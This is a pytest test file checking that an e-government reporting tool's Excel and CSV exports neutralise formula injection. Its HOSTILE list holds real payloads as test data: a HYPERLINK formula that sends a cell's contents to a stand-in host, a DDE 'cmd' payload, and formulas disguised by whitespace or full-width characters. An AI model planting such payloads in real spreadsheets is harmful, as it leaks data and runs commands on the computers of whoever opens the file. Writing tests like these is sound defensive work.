"""Spreadsheet exports: a value from the data is never read as a formula by Excel or a CSV reader."""

import csv
import io
import math
import unicodedata

import openpyxl
import pytest

from egov_report.core.exporting import QUOTE, safe_cell
from support.exports import safe_row

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")',
    "+1+2",
    "-1+2",
    "@SUM(A1:A9)",
    "  =1+1",  # leading spaces
    "\u00a0=1+1",
    "\uff1d1+1",  # full-width equals sign
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_a_spreadsheet_would_run_is_quoted(text):
    cell = safe_cell(text)
    assert cell.startswith(QUOTE)
    assert cell[len(QUOTE) :].strip("\t\r") in unicodedata.normalize("NFC", text)


@pytest.mark.parametrize("text", ["Phường Nam Khê", "Sở Tư pháp", "QN-S01", "06823", "8,5", "<b>đậm</b>", "a=b", ""])
def test_ordinary_text_is_unchanged(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize("value", [0, 8, -3, 8.5, -0.25, 170.0, True, False])
def test_numbers_and_booleans_stay_as_they_are(value):
    assert safe_cell(value) == value and type(safe_cell(value)) is type(value)


def test_missing_values_become_empty_cells():
    assert safe_cell(None) is None
    assert safe_cell(float("nan")) is None
    assert safe_cell(math.inf) is None


def test_text_is_nfc_and_loses_hidden_control_characters():
    assert safe_cell(unicodedata.normalize("NFD", "Phường")) == "Phường"
    assert safe_cell("Nam\x00 Khê\x1b[2J") == "Nam Khê[2J"
    assert safe_cell("\x07=1+1") == QUOTE + "=1+1"  # a control character cannot hide a formula


def test_other_objects_are_written_as_safe_text():
    class Name:
        def __str__(self):
            return "=1+1"

    assert safe_cell(Name()) == QUOTE + "=1+1"


def test_excel_export_holds_no_formula(tmp_path):
    rows = [["Mã đơn vị", "Tên đơn vị", "Tổng điểm"]] + [["X", text, 8.5] for text in HOSTILE] + [["Y", "-3", -3]]
    workbook = openpyxl.Workbook()
    for row in rows:
        workbook.active.append(safe_row(row))
    workbook.save(tmp_path / "export.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "export.xlsx").active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert cells and all(cell.data_type != "f" for cell in cells)
    assert all(
        not str(cell.value).lstrip(" \u00a0").startswith(("=", "+", "-", "@", "\uff1d"))
        for cell in cells
        if cell.data_type == "s"
    )
    assert sheet.cell(row=len(rows), column=3).value == -3  # numbers stay numbers


def test_csv_export_holds_no_formula():
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for text in HOSTILE:
        writer.writerow(safe_row(["X", text, 8.5]))
    for row in csv.reader(io.StringIO(buffer.getvalue())):
        assert not row[1].lstrip(" \u00a0").startswith(("=", "+", "-", "@", "\uff1d", "\t", "\r"))
        assert row[2] == "8.5"


@pytest.mark.parametrize("text", HOSTILE[:4] + ["Phường Nam Khê"])
def test_a_workbook_keeps_text_as_typed_in_string_cells(text, tmp_path):
    """No apostrophe stored in a workbook: the string cell type alone keeps the text from running."""
    from openpyxl import Workbook

    from egov_report.core.exporting import excel_cell

    book = Workbook(write_only=True)
    sheet = book.create_sheet("A")
    sheet.append([excel_cell(sheet, text), excel_cell(sheet, None), excel_cell(sheet, 8.5)])
    book.save(tmp_path / "a.xlsx")
    row = next(openpyxl.load_workbook(tmp_path / "a.xlsx")["A"].iter_rows())
    assert row[0].value == text and row[0].data_type == "s"
    assert row[1].value is None and row[2].value == 8.5
